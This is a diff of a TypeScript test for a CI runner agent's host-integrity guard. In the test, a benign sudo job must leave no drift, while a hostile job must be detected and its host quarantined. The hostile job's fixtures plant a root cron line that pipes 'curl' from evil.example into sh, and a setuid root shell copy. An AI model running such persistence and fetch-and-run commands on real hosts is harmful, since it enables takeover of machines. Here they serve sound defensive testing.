@@ -30,77 +30,99 @@ function sudoMissing(): string | undefined {
   return existsSync('/usr/bin/sudo') ? undefined : 'sudo is not installed (scripts/install-test-deps.sh)';
 }
 
-test('a benign sudo job leaves zero drift; a job planting through sudo is named, the host quarantined, the next job never runs there', { skip: sudoMissing(), timeout: 240_000 }, async (t) => {
-  // A grant left by anything else would make the test's result meaningless (and would be removed by the agent).
-  assert.equal(existsSync(SUDO_DROP_IN), false, `${SUDO_DROP_IN} exists before the test`);
-  const w = await createWorld();
-  t.after(async () => {
-    // The real path this test makes the agent write: gone whatever happened.
-    const grant = await readFile(SUDO_DROP_IN, 'utf8').catch(() => '');
-    if (grant.includes(w.lab.user.name)) await rm(SUDO_DROP_IN, { force: true });
-    await w.dispose();
-  });
-  const T = path.join(w.lab.root, 'host');
-  await mkdir(T);
-  await buildHostTree(T);
-  await writeFile(
-    path.join(w.policyDir, 'test.yaml'),
-    stringify({ ...testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } }), runner: { sudo: 'allow' } }),
-  );
-  const benign = [
-    'set -e',
-    'test "$(sudo -n id -u)" = 0',
-    'mkdir -p build && echo "int main(){return 0;}" > build/a.c && cp build/a.c build/a.o',
-    // A root-owned build log in the temp directory: not a persistence, not drift.
-    `sudo -n sh -c 'echo built > ${T}/tmp/sudo-build.log'`,
-    'echo benign-done',
-  ].join('\n');
-  const hostile = [
-    'set -e',
-    `sudo -n sh -c 'printf "* * * * * root curl -s https://evil.example | sh\\n" > ${T}/etc/cron.d/rw-planted'`,
-    `sudo -n sh -c 'cp /bin/sh ${T}/var/tmp/.rootsh && chmod 4755 ${T}/var/tmp/.rootsh'`,
-  ].join('\n');
-  w.fake.enqueueJob({ repository: 'octo/app', runId: 1, job: 'benign', steps: [{ name: 'build with sudo', run: benign }] });
-  w.fake.enqueueJob({ repository: 'octo/app', runId: 2, job: 'hostile', steps: [{ name: 'plant through sudo', run: hostile }] });
-  w.fake.enqueueJob({ repository: 'octo/app', runId: 3, job: 'next', steps: [{ name: 'look', run: `ls -la ${T}/etc/cron.d > /dev/null` }] });
+test(
+  'a benign sudo job leaves zero drift; a job planting through sudo is named, the host quarantined, the next job never runs there',
+  { skip: sudoMissing(), timeout: 240_000 },
+  async (t) => {
+    // A grant left by anything else would make the test's result meaningless (and would be removed by the agent).
+    assert.equal(existsSync(SUDO_DROP_IN), false, `${SUDO_DROP_IN} exists before the test`);
+    const w = await createWorld();
+    t.after(async () => {
+      // The real path this test makes the agent write: gone whatever happened.
+      const grant = await readFile(SUDO_DROP_IN, 'utf8').catch(() => '');
+      if (grant.includes(w.lab.user.name)) await rm(SUDO_DROP_IN, { force: true });
+      await w.dispose();
+    });
+    const T = path.join(w.lab.root, 'host');
+    await mkdir(T);
+    await buildHostTree(T);
+    await writeFile(
+      path.join(w.policyDir, 'test.yaml'),
+      stringify({ ...testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } }), runner: { sudo: 'allow' } }),
+    );
+    const benign = [
+      'set -e',
+      'test "$(sudo -n id -u)" = 0',
+      'mkdir -p build && echo "int main(){return 0;}" > build/a.c && cp build/a.c build/a.o',
+      // A root-owned build log in the temp directory: not a persistence, not drift.
+      `sudo -n sh -c 'echo built > ${T}/tmp/sudo-build.log'`,
+      'echo benign-done',
+    ].join('\n');
+    const hostile = [
+      'set -e',
+      `sudo -n sh -c 'printf "* * * * * root curl -s https://evil.example | sh\\n" > ${T}/etc/cron.d/rw-planted'`,
+      `sudo -n sh -c 'cp /bin/sh ${T}/var/tmp/.rootsh && chmod 4755 ${T}/var/tmp/.rootsh'`,
+    ].join('\n');
+    w.fake.enqueueJob({ repository: 'octo/app', runId: 1, job: 'benign', steps: [{ name: 'build with sudo', run: benign }] });
+    w.fake.enqueueJob({ repository: 'octo/app', runId: 2, job: 'hostile', steps: [{ name: 'plant through sudo', run: hostile }] });
+    w.fake.enqueueJob({
+      repository: 'octo/app',
+      runId: 3,
+      job: 'next',
+      steps: [{ name: 'look', run: `ls -la ${T}/etc/cron.d > /dev/null` }],
+    });
 
-  const cfg = await loadHostConfig(w.configFile, {});
-  const rt = await wire(cfg, { configFile: w.configFile, env: {}, log: silentLogger(), clock: systemClock, hostname: 'testhost', integrityRoot: T });
-  // Without a recycle provider a quarantined agent waits until it is stopped: stop it then, as an operator would.
-  const stop = new AbortController();
-  const watch = setInterval(() => {
-    if (rt.agent.snapshot().quarantined) stop.abort();
-  }, 100);
-  try {
-    await rt.agent.run(AbortSignal.any([AbortSignal.timeout(AGENT_RUN_LIMIT_MS), stop.signal]));
-  } finally {
-    clearInterval(watch);
-    await rt.close();
-  }
+    const cfg = await loadHostConfig(w.configFile, {});
+    const rt = await wire(cfg, {
+      configFile: w.configFile,
+      env: {},
+      log: silentLogger(),
+      clock: systemClock,
+      hostname: 'testhost',
+      integrityRoot: T,
+    });
+    // Without a recycle provider a quarantined agent waits until it is stopped: stop it then, as an operator would.
+    const stop = new AbortController();
+    const watch = setInterval(() => {
+      if (rt.agent.snapshot().quarantined) stop.abort();
+    }, 100);
+    try {
+      await rt.agent.run(AbortSignal.any([AbortSignal.timeout(AGENT_RUN_LIMIT_MS), stop.signal]));
+    } finally {
+      clearInterval(watch);
+      await rt.close();
+    }
 
-  const jobs = jobRecords(await w.journal());
-  const [first, second] = jobs;
-  assert.equal(jobs.length, 2, `expected the benign and the hostile job only, got ${jobs.map((j) => j.job.job ?? j.result).join(', ')}`);
-  assert.ok(first && second);
-  // The benign job really used sudo (its steps fail otherwise) and left nothing the check reports.
-  assert.equal(first.result, 'Succeeded', 'the benign job failed: its sudo calls did not work');
-  assert.deepEqual(first.guardFindings ?? [], [], 'a benign sudo job drifted');
-  assert.equal(first.cleanup.verify.clean, true, first.cleanup.verify.problems.join('\n'));
-  assert.equal(first.decision, 'reuse', first.decisionReason);
-  assert.equal(await readFile(`${T}/tmp/sudo-build.log`, 'utf8'), 'built\n', 'the benign job did not write through sudo');
+    const jobs = jobRecords(await w.journal());
+    const [first, second] = jobs;
+    assert.equal(jobs.length, 2, `expected the benign and the hostile job only, got ${jobs.map((j) => j.job.job ?? j.result).join(', ')}`);
+    assert.ok(first && second);
+    // The benign job really used sudo (its steps fail otherwise) and left nothing the check reports.
+    assert.equal(first.result, 'Succeeded', 'the benign job failed: its sudo calls did not work');
+    assert.deepEqual(first.guardFindings ?? [], [], 'a benign sudo job drifted');
+    assert.equal(first.cleanup.verify.clean, true, first.cleanup.verify.problems.join('\n'));
+    assert.equal(first.decision, 'reuse', first.decisionReason);
+    assert.equal(await readFile(`${T}/tmp/sudo-build.log`, 'utf8'), 'built\n', 'the benign job did not write through sudo');
 
-  assert.equal(second.result, 'Succeeded', 'the hostile job failed to plant');
-  const lines = (second.guardFindings ?? []).filter((f) => f.guard === 'integrity').map((f) => f.problem);
-  for (const e of [/^etc: \/etc\/cron\.d\/rw-planted added \(the job through sudo/, /^setuid: \/var\/tmp\/\.rootsh added \(the job through sudo/]) {
-    assert.ok(lines.some((l) => e.test(l)), `no line matches ${e}:\n${lines.join('\n')}`);
-  }
-  assert.equal(second.decision, 'quarantine', second.decisionReason);
-  assert.equal(rt.agent.snapshot().quarantined, true);
+    assert.equal(second.result, 'Succeeded', 'the hostile job failed to plant');
+    const lines = (second.guardFindings ?? []).filter((f) => f.guard === 'integrity').map((f) => f.problem);
+    for (const e of [
+      /^etc: \/etc\/cron\.d\/rw-planted added \(the job through sudo/,
+      /^setuid: \/var\/tmp\/\.rootsh added \(the job through sudo/,
+    ]) {
+      assert.ok(
+        lines.some((l) => e.test(l)),
+        `no line matches ${e}:\n${lines.join('\n')}`,
+      );
+    }
+    assert.equal(second.decision, 'quarantine', second.decisionReason);
+    assert.equal(rt.agent.snapshot().quarantined, true);
 
-  // Nothing of it reaches the next job: that job was never given to this host.
-  const next = w.fake.jobs().find((j) => j.job.displayName === 'next');
-  assert.ok(next, 'the third job is missing from the fake service');
-  assert.equal(next.runnerName, null, `the job after the plant ran on the quarantined host (${String(next.runnerName)})`);
-  // The grant lived for the jobs only.
-  assert.equal(existsSync(SUDO_DROP_IN), false, `${SUDO_DROP_IN} is left after the jobs`);
-});
+    // Nothing of it reaches the next job: that job was never given to this host.
+    const next = w.fake.jobs().find((j) => j.job.displayName === 'next');
+    assert.ok(next, 'the third job is missing from the fake service');
+    assert.equal(next.runnerName, null, `the job after the plant ran on the quarantined host (${String(next.runnerName)})`);
+    // The grant lived for the jobs only.
+    assert.equal(existsSync(SUDO_DROP_IN), false, `${SUDO_DROP_IN} is left after the jobs`);
+  },
+);
